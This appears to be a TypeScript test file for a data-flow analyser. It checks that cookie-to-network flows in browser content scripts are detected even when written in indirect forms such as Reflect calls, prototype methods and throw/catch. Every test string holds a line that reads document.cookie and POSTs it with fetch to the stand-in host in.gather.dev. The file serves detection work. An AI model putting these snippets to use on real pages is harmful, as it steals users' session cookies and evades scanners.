import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../testing/flows-between.ts';

/** Code that sends what `held` is, in a long form. */
const forms: Readonly<Record<string, string>> = {
  'a method of a prototype, called':
    'const l = []; Array.prototype.push.call(l, document.cookie); const held = l[0];',
  'a method of a prototype, applied':
    'const l = []; [].push.apply(l, [document.cookie]); const held = l[0];',
  'a call of call':
    'const f = (x) => x; const held = Function.prototype.call.call(f, null, document.cookie);',
  'Reflect.set': "const o = {}; Reflect.set(o, 'a', document.cookie); const held = o.a;",
  'Reflect.get': "const o = { a: document.cookie }; const held = Reflect.get(o, 'a');",
  'and with an assignment': 'let held = true; held &&= document.cookie;',
  'destructuring into members':
    'const o = {}; ({ a: o.b } = { a: document.cookie }); const held = o.b;',
  'a tagged template': 'const tag = (s, x) => x; const held = tag`${document.cookie}!`;',
  'a prototype in a literal':
    'const base = { a: document.cookie }; const o = { __proto__: base }; const held = o.a;',
  'a key that a constant names': "const k = 'a'; const { [k]: held } = { a: document.cookie };",
  'members of the window at once': 'Object.assign(self, { held: document.cookie });',
  'throw and catch': 'let held; try { throw document.cookie } catch (e) { held = e }',
  'throw through a call':
    'const fail = (x) => { throw x }; let held; try { fail(document.cookie) } catch (e) { held = e }',
};

describe('long forms of code', () => {
  for (const [name, code] of Object.entries(forms)) {
    it(`are read as short ones: ${name}`, () => {
      const text = `${code} fetch('https://in.gather.dev/', { method: 'POST', body: held });`;
      assert.ok(
        flowsBetween({ 'content.js': text }).join().includes('cookies content.js > network'),
      );
    });
  }

  it('bring nothing to an outer catch that an inner one takes, or that a callback throws', () => {
    const send = "fetch('https://in.gather.dev/', { method: 'POST', body: e })";
    const fail = 'function fail() { throw document.cookie }';
    for (const inner of ['try { fail() } catch {}', 'setTimeout(() => { fail() })'])
      assert.deepEqual(
        flowsBetween({ 'content.js': `${fail} try { ${inner} } catch (e) { ${send} }` }),
        [],
      );
  });

  it('bring what the last of a thousand calls throws', () => {
    const code = `function fine() {} function fail() { throw document.cookie } try { ${'fine();'.repeat(1_000)} fail() } catch (e) { fetch('https://in.gather.dev/', { method: 'POST', body: e }) }`;
    assert.ok(flowsBetween({ 'content.js': code }).join().includes('cookies content.js > network'));
  });

  it('leave the parameters that share the name of a constant alone', () => {
    const text =
      "const k = 'a'; const pick = (o, k) => { const { [k]: x } = o; return x }; fetch('https://in.gather.dev/', { method: 'POST', body: pick({ b: document.cookie }, 'b') });";
    assert.ok(flowsBetween({ 'content.js': text }).join().includes('cookies content.js > network'));
  });
});
